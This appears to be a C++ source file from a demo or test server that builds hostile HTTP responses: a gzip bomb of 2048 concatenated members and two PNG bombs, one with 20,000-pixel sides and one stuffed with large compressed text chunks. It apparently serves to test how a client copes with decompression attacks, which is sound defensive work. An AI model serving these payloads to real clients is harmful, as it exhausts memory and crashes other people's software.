#include "demo/compression_bombs.h"

#include "demo/hostile_pictures.h"

#include <QBuffer>
#include <QByteArray>
#include <QImage>
#include <cstdint>
#include <string_view>
#include <utility>

namespace lookfar::demo {
namespace {

std::string repeated(const std::string& piece, int count) {
    std::string all;
    all.reserve(piece.size() * static_cast<std::size_t>(count));
    for (int done = 0; done < count; ++done) {
        all += piece;
    }
    return all;
}

std::uint32_t checksum(std::string_view bytes) {
    constexpr std::uint32_t polynomial = 0xEDB88320;
    std::uint32_t sum = 0xFFFFFFFF;
    for (const char byte : bytes) {
        sum ^= static_cast<unsigned char>(byte);
        for (int bit = 0; bit < 8; ++bit) {
            sum = (sum >> 1U) ^ ((sum & 1U) != 0 ? polynomial : 0);
        }
    }
    return ~sum;
}

std::string big_endian(std::uint32_t value) {
    std::string bytes;
    for (const unsigned shift : {24U, 16U, 8U, 0U}) {
        bytes += static_cast<char>(value >> shift & 0xFFU);
    }
    return bytes;
}

std::string little_endian(std::uint32_t value) {
    const std::string bytes = big_endian(value);
    return {bytes.rbegin(), bytes.rend()};
}

std::string to_zlib(const QByteArray& bytes) {
    constexpr qsizetype length_in_front = 4;
    return qCompress(bytes).sliced(length_in_front).toStdString();
}

/// One of the members that a gzip file may have many of.
std::string to_gzip_member(const QByteArray& bytes) {
    constexpr std::size_t zlib_header = 2;
    constexpr std::size_t zlib_trailer = 4;
    const std::string zlib = to_zlib(bytes);
    return std::string("\x1F\x8B\x08\0\0\0\0\0\0\xFF", 10) +
           zlib.substr(zlib_header, zlib.size() - zlib_header - zlib_trailer) +
           little_endian(checksum(bytes.toStdString())) +
           little_endian(static_cast<std::uint32_t>(bytes.size()));
}

std::string png_chunk(const std::string& type, const std::string& content) {
    return big_endian(static_cast<std::uint32_t>(content.size())) + type + content +
           big_endian(checksum(type + content));
}

std::string to_png(const QImage& image) {
    QByteArray bytes;
    QBuffer buffer(&bytes);
    buffer.open(QIODevice::WriteOnly);
    image.save(&buffer, "PNG");
    return bytes.toStdString();
}

Answer png_answer(std::string body) {
    return {.status = 200,
            .content_type = "image/png",
            .body = std::move(body),
            .headers = {},
            .delay = {}};
}

} // namespace

Answer gzip_bomb() {
    constexpr qsizetype member_size = qsizetype{1024} * 1024;
    constexpr int member_count = 2048;
    Answer answer = small_picture();
    answer.body = repeated(to_gzip_member(QByteArray(member_size, '\0')), member_count);
    answer.headers.push_back({"Content-Encoding", "gzip"});
    return answer;
}

Answer pixel_bomb() {
    constexpr std::uint32_t side = 20'000;
    constexpr qsizetype row_size = 1 + side / 8;
    const std::string one_bit_of_grey("\x01\0\0\0\0", 5);
    return png_answer("\x89PNG\r\n\x1A\n" +
                      png_chunk("IHDR", big_endian(side) + big_endian(side) + one_bit_of_grey) +
                      png_chunk("IDAT", to_zlib(QByteArray(row_size * side, '\0'))) +
                      png_chunk("IEND", ""));
}

Answer text_bomb() {
    constexpr std::size_t end_of_first_chunk = 33;
    constexpr qsizetype text_size = 7'800'000;
    constexpr int text_count = 65;
    const std::string keyword("Comment\0\0", 9);
    const std::string text = png_chunk("zTXt", keyword + to_zlib(QByteArray(text_size, 'a')));
    std::string picture = to_png(QImage::fromData(QByteArray::fromStdString(small_picture().body)));
    picture.insert(end_of_first_chunk, repeated(text, text_count));
    return png_answer(std::move(picture));
}

} // namespace lookfar::demo
